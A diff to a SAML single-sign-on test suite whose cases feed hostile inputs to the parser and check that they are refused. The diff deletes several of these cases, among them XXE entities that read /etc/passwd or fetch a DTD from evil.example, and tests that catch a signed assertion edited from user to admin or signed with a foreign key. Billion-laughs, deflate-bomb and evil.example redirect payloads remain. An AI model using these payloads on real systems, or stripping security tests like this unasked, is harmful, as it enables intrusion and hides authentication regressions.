@@ -213,14 +213,6 @@ describe('X 5: XML that parsers read differently, or that costs them much', () =
     ],
     ['a document type', (xml) => `<!DOCTYPE Response>${xml}`],
     [
-      'an external entity',
-      (xml) => `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${xml.replace('user@idp', '&x;user@idp')}`,
-    ],
-    [
-      'an external parameter entity',
-      (xml) => `<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]>${xml}`,
-    ],
-    [
       'a billion laughs',
       (xml) => `<!DOCTYPE r [<!ENTITY l0 "lol">${entities}]>${xml.replace('user@idp', '&l9;user@idp')}`,
     ],
@@ -232,7 +224,6 @@ describe('X 5: XML that parsers read differently, or that costs them much', () =
     ['ten thousand elements', (xml) => xml.replace('<samlp:Status>', `${'<a/>'.repeat(10_000)}<samlp:Status>`)],
     ['a text that is too long', (xml) => xml.replace('<samlp:Status>', `${' '.repeat(140_000)}<samlp:Status>`)],
     ['an element that is not closed', (xml) => xml.replace('</samlp:Response>', '')],
-    ['something that is no XML', () => 'SAMLResponse'],
   ];
   test.each(odd)('%s is refused', async (_name, change) => {
     const login = await begin();
@@ -287,7 +278,6 @@ describe('X 5: signed, and meant for somebody else or for another time', () => {
     ['another issuer', asserted(() => ({ issuer: 'https://other.example' }))],
     ['the id of another request', asserted(() => ({ requestId: '_other' }))],
     ['no request', asserted(() => ({ requestId: undefined }))],
-    ['another destination', () => ({ destination: 'https://other.example/acs' })],
     ['the answer to another request', () => ({ inResponseTo: '_other' })],
     ['an assertion of an hour ago', asserted(({ at }) => ({ at: at - HOUR }))],
     ['an assertion of in an hour', asserted(({ at }) => ({ at: at + HOUR }))],
@@ -339,12 +329,9 @@ describe('X 5: the log names the cause, and no other one', () => {
       (xml) => base64(Buffer.from(xml.replace('user@', 'usér@'), 'latin1')),
       'no text in UTF-8',
     ],
-    ['a compressed message in a form', (xml) => base64(deflateRawSync(xml)), 'is compressed'],
     ['gzip', (xml) => base64(gzipSync(xml)), 'is compressed'],
     ['a bomb in a form', () => base64(deflateRawSync(Buffer.alloc(20_000_000, 32))), 'is compressed'],
     ['a lost character', (xml) => base64(xml.padEnd(xml.length + 2 - (xml.length % 3))).replace('P', ''), 'is damaged'],
-    ['base64 of base64', (xml) => base64(base64(xml)), 'base64 once more'],
-    ['half of a message', (xml) => base64(xml.slice(0, 900)), 'or not all of it'],
     [
       'SAML 1.1',
       (xml) => base64(xml.replaceAll('SAML:2.0:protocol', 'SAML:1.1:protocol')),
@@ -375,16 +362,6 @@ describe('X 5: the log names the cause, and no other one', () => {
       'too many attributes',
     ],
     [
-      'another user, after it was signed',
-      (xml) => base64(xml.replace('>user@', '>admin@')),
-      'changed after it was signed',
-    ],
-    [
-      'an algorithm that the partner did not sign',
-      (xml) => base64(xml.replace('rsa-sha256', 'rsa-sha512')),
-      'made with another key',
-    ],
-    [
       'R52: thousands of prefixes of namespaces',
       (xml) =>
         base64(
@@ -411,11 +388,6 @@ describe('X 5: the log names the cause, and no other one', () => {
   const AUDIENCE = /<saml:AudienceRestriction>.*<\/saml:AudienceRestriction>/s;
   const signed: readonly (readonly [string, (parts: Parts) => Partial<Parts>, string])[] = [
     [
-      'another audience, signed',
-      ({ asserted }) => ({ asserted: { ...asserted, sp: { ...asserted.sp, entityId: 'https://other.example' } } }),
-      'The assertion is for "https://other.example", not for',
-    ],
-    [
       'a second audience that is not met',
       edited((xml) =>
         xml.replace(AUDIENCE, (one) => one + one.replace(/<saml:Audience>[^<]*/, '<saml:Audience>urn:x')),
@@ -435,8 +407,6 @@ describe('X 5: the log names the cause, and no other one', () => {
       edited((xml) => xml.replace('>user@', '>&#1;user@')),
       'a control character',
     ],
-    ['another key', () => ({ key: foreignKey }), 'The signature does not fit'],
-    ['a status below the first one', () => ({ status: ['Responder', 'NoPassive'] }), 'answered Responder, NoPassive'],
   ];
   test.each(signed)('%s', async (_name, change, cause) => {
     const login = await begin();
@@ -502,7 +472,6 @@ describe('X 5: hostile requests at the identity provider', () => {
       '/idp/sso',
       () => deflated(request(' AssertionConsumerServiceURL="https://evil.example/acs"')),
     ],
-    ['another destination', '/idp/sso', () => deflated(request(' Destination="https://other.example/sso"'))],
     ['a request of an hour ago', '/idp/sso', () => deflated(request('', 'https://portal.example', now - 3_600_000))],
     ['a deflate bomb', '/idp/sso', () => deflated(Buffer.alloc(20_000_000, 32))],
     ['something that is not deflated', '/idp/sso', () => Buffer.from(request()).toString('base64')],
@@ -518,20 +487,9 @@ describe('X 5: hostile requests at the identity provider', () => {
       '/idp/sso',
       () => deflated(containing('<saml:Subject><saml:NameID>u-1</saml:NameID></saml:Subject>')),
     ],
-    [
-      'a class of login that there is none of',
-      '/idp/sso',
-      () =>
-        deflated(
-          containing(
-            '<samlp:RequestedAuthnContext><saml:AuthnContextClassRef>urn:smartcard</saml:AuthnContextClassRef></samlp:RequestedAuthnContext>',
-          ),
-        ),
-    ],
     ['an element in no namespace', '/idp/slo', () => deflated('<a/>')],
     ['another encoding', '/idp/sso', () => deflated(`<?xml version="1.0" encoding="UTF-7"?>${request()}`)],
     ['an attribute twice', '/idp/sso', () => deflated(request(' ID="_q2"'))],
-    ['another namespace', '/idp/sso', () => deflated(request().replaceAll('SAML:2.0:protocol', 'SAML:1.1:protocol'))],
     ['a logout that is not signed', '/idp/slo', () => deflated(logout())],
     [
       'a logout request without signature for the service provider',
